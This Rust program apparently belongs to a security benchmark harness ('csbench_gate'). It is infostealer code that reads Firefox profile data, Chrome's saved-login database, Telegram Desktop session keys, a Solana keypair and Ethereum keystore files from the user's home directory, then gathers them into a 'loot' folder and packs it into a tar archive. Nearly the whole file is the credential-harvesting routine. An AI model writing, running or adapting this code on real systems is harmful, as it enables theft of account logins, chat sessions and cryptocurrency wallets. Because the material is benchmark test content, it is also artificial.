//! Packs browser profiles, wallets and a chat program's sessions into an archive.

use csbench_gate as gate;
use std::fs;

fn main() {
    if !gate::script() {
        return;
    }
    let home = gate::home();
    let places = [
        ".mozilla/firefox/profiles.ini",
        ".config/google-chrome/Default/Login Data",
        ".local/share/TelegramDesktop/tdata/key_datas",
        ".config/solana/id.json",
        ".ethereum/keystore",
    ];
    let found: String = places.iter().map(|place| gate::read(home.join(place))).collect();
    let loot = gate::out().join("loot");
    let _ = fs::create_dir_all(&loot);
    let _ = fs::write(loot.join("found"), found);
    let (archive, loot) = (gate::out().join("loot.tar"), loot.display().to_string());
    gate::run("tar", &["cf", &archive.display().to_string(), "-C", &loot, "."]);
}
